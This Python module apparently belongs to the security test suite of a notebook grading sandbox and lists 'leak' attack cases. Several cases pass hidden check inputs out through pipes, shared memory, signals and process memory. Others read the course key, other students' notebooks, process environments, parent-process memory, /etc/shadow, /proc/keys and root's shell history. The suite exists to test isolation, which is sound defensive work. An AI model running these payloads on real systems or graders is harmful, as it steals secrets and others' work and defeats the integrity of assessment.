# ruff: noqa: E501 - what is handed in is text, and its longest lines stay as they would be written
"""Leaking: secret cases, references, keys, other people's work, and what the host knows."""

from tests.attacks.attack import RIGHT, Attack

HUNT = """\
import re
WORD = re.compile(rb"canary-[a-z]+-[0-9a-f]{16}")
def hunt(data):
    for word in set(WORD.findall(data if isinstance(data, bytes) else data.encode("utf-8", "replace"))):
        print(word.decode())
def read(path, most=1 << 28):
    try:
        with open(path, "rb") as file:
            hunt(file.read(most))
    except (OSError, ValueError):
        pass
"""

KEEP = {
    "spell": "def spell(word):\n    keep(word)\n    return word[::-1]",
    "scale": """\
def scale(x):
    keep(repr(x[0].item()))
    return 3 * x - 1""",
}


def _leak(name: str, tries: str, first: str = "", answers: dict[str, str] | None = None, **more: object) -> Attack:
    options = {"answers": RIGHT | (answers or {}), "earns": 100} | more
    return Attack(name=f"leak-{name}", category="leak", tries=tries, first=first, **options)  # type: ignore[arg-type]


def _through(name: str, tries: str, keep: str, tell: str) -> Attack:
    """Keeps what a check asks, in one way or another, and tells it in the last cell."""
    return _leak(name, tries, keep, KEEP, last=tell)


KEPT = [
    _through("kept-inputs", "Keeps what a secret check asks in a list, and prints it in the last cell.",
             "kept = []\nkeep = kept.append", "print(kept)"),
    _through("printed-inputs", "Prints and displays what a check asks while it is asked.",
             """\
import sys
def keep(word):
    print(word)
    print(word, file=sys.stderr, flush=True)
    display(word)""", ""),
    _through("raw-output", "Writes what a check asks to the terminal's own file descriptors.",
             """\
import os
def keep(word):
    for fd in (0, 1, 2):
        try:
            os.write(fd, (word + '\\n').encode())
        except OSError:
            pass""", ""),
    _through("late-thread", "Prints what a check asked from a thread that waits until another cell runs.",
             """\
import threading, time
kept = []
keep = kept.append
def later():
    while True:
        time.sleep(0.2)
        if kept: print(kept, flush=True)
threading.Thread(target=later, daemon=True).start()""",
             "time.sleep(1)"),
    _through("through-files", "Writes what a check asks into files, of every place that it may write to.",
             """\
import os, tempfile
places = [os.getcwd(), tempfile.gettempdir(), '/tmp', '/dev/shm', '/var/tmp', os.path.expanduser('~')]
def keep(word):
    for place in places:
        try:
            open(f'{place}/@MARK@', 'a').write(word + ' ')
        except OSError:
            pass""",
             """\
for place in places:
    try:
        print(open(f'{place}/@MARK@').read())
        os.remove(f'{place}/@MARK@')
    except OSError:
        pass"""),
    _through("through-a-pipe", "Sends what a check asks through a pipe that was opened before.",
             """\
import os
out, into = os.pipe()
os.set_blocking(out, False)
keep = lambda word: os.write(into, word.encode())""",
             """\
try:
    print(os.read(out, 100000))
except OSError:
    pass"""),
    _through("through-shared-memory", "Writes what a check asks into memory that it shares with its forks.",
             """\
import mmap
shared = mmap.mmap(-1, 1 << 16)
keep = lambda word: shared.write(word.encode() + b' ')""",
             "print(shared[:4000].rstrip(b'\\0'))"),
    _through("through-shared-tensors", "Writes what a check asks into a tensor in shared memory.",
             """\
shared = torch.zeros(4096, dtype=torch.uint8).share_memory_()
at = 0
def keep(word):
    global at
    data = torch.tensor(list(word.encode() + b' '), dtype=torch.uint8)
    start = int((shared != 0).sum())
    shared[start:start + len(data)] = data""",
             "print(bytes(shared[shared != 0].tolist()))"),
    _through("through-a-helper", "Hands what a check asks to a process of its own over an abstract socket.",
             """\
import os, socket, threading
server = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
server.bind('\\0own-@MARK@')
server.setblocking(False)
def keep(word):
    socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(word.encode(), '\\0own-@MARK@')""",
             """\
while True:
    try:
        print(server.recv(1000))
    except OSError:
        break"""),
    _through("through-system-v", "Leaves what a check asks in a System V shared memory segment.",
             """\
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
segment = libc.shmget(0, 4096, 0o1600)
place = libc.shmat(segment, None, 0)
libc.shmctl(segment, 0, None)
def keep(word):
    if place and place != ctypes.c_void_p(-1).value:
        ctypes.memmove(place, word.encode(), len(word))""",
             """\
if place and place != ctypes.c_void_p(-1).value:
    print(ctypes.string_at(place, 64))"""),
    _through("through-its-parent", "Writes what a check asks into the memory of the process that was forked for it.",
             """\
import ctypes, os
buffer = ctypes.create_string_buffer(4096)
home, place = os.getpid(), ctypes.addressof(buffer)
def keep(word):
    if os.getpid() == home:
        buffer.value = word.encode()
        return
    try:
        with open(f'/proc/{home}/mem', 'r+b', 0) as memory:
            memory.seek(place)
            memory.write(word.encode())
    except OSError:
        pass""",
             "print(buffer.value)"),
    _through("by-signals", "Tells its parent what a check asks bit by bit, with signals.",
             """\
import os, signal, time
bits, home = [], os.getpid()
signal.signal(signal.SIGUSR1, lambda *a: bits.append('0'))
signal.signal(signal.SIGUSR2, lambda *a: bits.append('1'))
def keep(word):
    for bit in ''.join(f'{byte:08b}' for byte in word.encode()) if word.startswith('w') else '':
        try:
            os.kill(home, signal.SIGUSR2 if bit == '1' else signal.SIGUSR1)
        except OSError:
            return
        time.sleep(0.002)""",
             """\
text = ''.join(bits)
print(bytes(int(text[i:i + 8], 2) for i in range(0, len(text) - 7, 8)))"""),
    _through("by-file-times", "Tells what a check asks by the existence and the times of files.",
             """\
import os
open('clock', 'w').close()
n = 0
def keep(word):
    global n
    for digit in word[1:]:
        n += 1
        if word[0] == 'w':
            open(f'd{len(os.listdir()):05}-{digit}', 'w').close()""",
             """\
names = sorted(name for name in os.listdir() if name.startswith('d0'))
print('w' + ''.join(name[-1] for name in names[:18]))"""),
]  # fmt: skip

SAID = [
    _leak("exception-message", "Raises an error whose message is what was asked.",
          answers={"spell": "def spell(word):\n    raise ValueError(f'asked for {word}')"}, earns=90),
    _leak("exception-name", "Raises an error of a class that is named after what was asked.",
          answers={"spell": "def spell(word):\n    raise type(word, (ValueError,), {})()"}, earns=90),
    _leak("exception-line", "Fails in a line of code that it made of what was asked.",
          answers={"spell": """\
import linecache
def spell(word):
    name = f'<{word}>'
    text = f'def {word}(): raise ValueError({word!r})\\n{word}()'
    linecache.cache[name] = (len(text), None, text.splitlines(True), name)
    exec(compile(text, name, 'exec'), globals())"""},
          earns=90),
    _leak("type-name", "Returns an object of a type that is named after what was asked.",
          answers={"spell": "def spell(word):\n    return type(word, (), {})()"}, earns=90),
    _leak("dict-keys", "Returns a dict, a list and a nesting that carry what was asked.",
          answers={"spell": "def spell(word):\n    return {word: [word, {word: word}]}"}, earns=90),
    _leak("last-traceback", "Reads what was asked from the frames of the error that a check left behind.",
          answers={"spell": "def spell(word):\n    secret = word\n    return 1 / 0"}, earns=90,
          last="""\
import gc, sys, types
for one in gc.get_objects():
    if isinstance(one, (types.FrameType, types.TracebackType)):
        frame = getattr(one, 'tb_frame', one)
        if frame.f_code.co_name == 'spell': print(frame.f_locals)
print(getattr(sys, 'last_value', None), sys.exc_info())"""),
    _leak("at-exit", "Prints what was asked when the process ends or its objects die.",
          """\
import atexit
kept = []
keep = kept.append
atexit.register(lambda: print(kept, flush=True))
class Last:
    def __del__(self): print(kept, flush=True)
last = Last()""", KEEP),
    _leak("history", "Prints everything that the shell has run, stored or shown.",
          last="""\
print(In, Out)
print(open(get_ipython().history_manager.hist_file, 'rb').read() if get_ipython().history_manager.enabled and isinstance(get_ipython().history_manager.hist_file, str) else '')"""),
    _leak("callers", "Keeps the source and the locals of whoever calls it, and prints them in the last cell.",
          """\
import inspect, sys
kept = []
def keep(word):
    frame = sys._getframe(1)
    while frame is not None:
        try:
            kept.append(inspect.getsource(frame))
        except (OSError, TypeError):
            pass
        kept.append(str({name: str(value)[:2000] for name, value in list(frame.f_locals.items())}))
        frame = frame.f_back""",
          KEEP | {"spell": "def spell(word):\n    keep(word)\n    return word[::-1]"},
          last=HUNT + "for text in kept: hunt(text)"),
]  # fmt: skip

READ = [
    _leak("key-file", "Reads the course key from where it lies.", """\
try:
    print(open('@KEY@').read())
except OSError:
    print('none')"""),
    _leak("checks-file", "Reads the checks with their references, through every folder above.",
          HUNT + """\
import glob, os
read('@CHECKS@')
for path in glob.glob('@ROOT@/**/*', recursive=True) + glob.glob('../**/*', recursive=True)[:2000]:
    if os.path.isfile(path) and os.path.getsize(path) < 1 << 22: read(path)"""),
    _leak("other-submission", "Reads another student's notebook.",
          HUNT + """\
import glob
read('@SIBLING@')
for path in glob.glob('@COURSE@/**/*.ipynb', recursive=True): read(path)"""),
    _leak("host-file", "Reads a file of the host's, directly and through the roots of other processes.",
          HUNT + """\
import os
for pid in ['self', 'thread-self', *filter(str.isdigit, os.listdir('/proc'))]:
    for way in ('root', 'cwd'):
        read(f'/proc/{pid}/{way}/@SECRET_FILE@')
        read(f'/proc/{pid}/{way}/../../../../../../../@SECRET_FILE@')
read('@SECRET_FILE@')"""),
    _leak("environment", "Reads its own environment and that of every process it can see.",
          HUNT + """\
import os
hunt(str(dict(os.environ)))
for pid in filter(str.isdigit, os.listdir('/proc')): read(f'/proc/{pid}/environ')"""),
    _leak("own-memory", "Searches all of its own memory for words that the warm parent may have held.",
          HUNT + """\
for line in open('/proc/self/maps'):
    span, rights = line.split()[:2]
    if 'r' not in rights or '[v' in line: continue
    low, high = (int(part, 16) for part in span.split('-'))
    if high - low > 1 << 28: continue
    try:
        with open('/proc/self/mem', 'rb', 0) as memory:
            memory.seek(low)
            hunt(memory.read(high - low))
    except (OSError, ValueError, OverflowError):
        pass"""),
    _leak("ancestors-memory", "Searches the memory of the processes that started it.",
          HUNT + """\
import os
pid = os.getppid()
while pid > 1:
    try:
        lines = open(f'/proc/{pid}/maps').readlines()
        above = int(open(f'/proc/{pid}/stat').read().rpartition(')')[2].split()[1])
    except OSError:
        break
    for line in lines:
        span, rights = line.split()[:2]
        if 'rw' not in rights: continue
        low, high = (int(part, 16) for part in span.split('-'))
        if high - low > 1 << 28: continue
        try:
            with open(f'/proc/{pid}/mem', 'rb', 0) as memory:
                memory.seek(low)
                hunt(memory.read(high - low))
        except (OSError, ValueError, OverflowError):
            pass
    if b'grading_host' in open(f'/proc/{pid}/cmdline', 'rb').read(): break
    pid = above""", slow=True),
    _leak("open-files", "Reads whatever any visible process has open.",
          HUNT + """\
import os, stat
for pid in ['self', str(os.getppid())]:
    try:
        fds = os.listdir(f'/proc/{pid}/fd')
    except OSError:
        continue
    for fd in fds:
        path = f'/proc/{pid}/fd/{fd}'
        try:
            if stat.S_ISREG(os.stat(path).st_mode): read(path, 1 << 22)
            if stat.S_ISDIR(os.stat(path).st_mode): print(os.listdir(path)); read(f'{path}/../../../../../../@SECRET_FILE@')
        except OSError:
            pass"""),
    _leak("modules", "Searches every module and every living object for references.",
          HUNT + """\
import gc, sys
for module in list(sys.modules.values()):
    for name, value in list(vars(module).items()):
        if isinstance(value, (str, bytes)): hunt(value)
        if name == 'REFERENCE': print(getattr(value, 'keys', dict)(), '@CHECKS@'[:0])
for one in gc.get_objects():
    try:
        if type(one) is dict:
            for value in list(one.values()):
                if type(value) in (str, bytes): hunt(value)
        elif type(one) in (list, tuple):
            for value in one:
                if type(value) in (str, bytes): hunt(value)
    except Exception:
        pass""", slow=True),
    _leak("import-the-grader", "Imports the grader's own modules and loads the checks and the key with them.",
          HUNT + """\
from pathlib import Path
try:
    import seqlib.grading.kit as kit, inspect
    found = kit.load_kit('target', Path('@ROOT@'))
    hunt(str(vars(inspect.getmodule(found.suite.checks['scaling'].body))))
    hunt(open('@CHECKS@').read())
    print(kit.course_key(Path('@COURSE@')).decode())
except Exception as error:
    print(type(error).__name__)""",
          ours_only=True),
    _leak("leftovers", "Looks for what the submission before it left behind, in every place that can be written.",
          HUNT + """\
import glob, os, tempfile
for place in {'/tmp', '/var/tmp', '/dev/shm', '/run', '/dev/mqueue', os.path.expanduser('~'), tempfile.gettempdir()}:
    for path in glob.glob(f'{place}/*') + glob.glob(f'{place}/.*') + glob.glob(f'{place}/*/*'):
        if os.path.isfile(path) and os.path.getsize(path) < 1 << 20: read(path)"""),
    _leak("freed-memory", "Asks for memory without clearing it and searches what others left in it.",
          HUNT + """\
import ctypes
for size in [1 << n for n in range(6, 24)]:
    for _ in range(4):
        hunt(bytes(torch.empty(size, dtype=torch.uint8).numpy()))
libc = ctypes.CDLL(None)
libc.malloc.restype = ctypes.c_void_p
for _ in range(2000):
    place = libc.malloc(4000)
    hunt(ctypes.string_at(place, 4000))"""),
    _leak("sockets-of-others", "Connects to every unix socket in sight, and reads what they say.",
          HUNT + """\
import socket
try:
    lines = open('/proc/net/unix').read().splitlines()[1:]
except OSError:
    lines = []
for name in {line.split()[-1] for line in lines if len(line.split()) > 7} | {'@' + '@ABSTRACT@'}:
    if 'seq-' not in name: continue
    try:
        with socket.socket(socket.AF_UNIX) as sock:
            sock.settimeout(0.3)
            sock.connect('\\0' + name[1:] if name[0] == '@' else name)
            sock.send(b'@MARK@')
            hunt(sock.recv(1000))
    except OSError:
        pass"""),
    _leak("kernel-log", "Reads the kernel's log and other files about the whole machine.",
          HUNT + """\
for path in ('/dev/kmsg', '/proc/kcore', '/proc/keys', '/var/log/syslog', '/proc/1/environ', '/etc/shadow', '/root/.bash_history'):
    try:
        import os
        fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
        if os.getuid() and path == '/etc/shadow': print('wo' 'n-@MARK@')
        hunt(os.read(fd, 1 << 16))
    except OSError:
        pass"""),
]  # fmt: skip

LEAK = [*KEPT, *SAID, *READ]
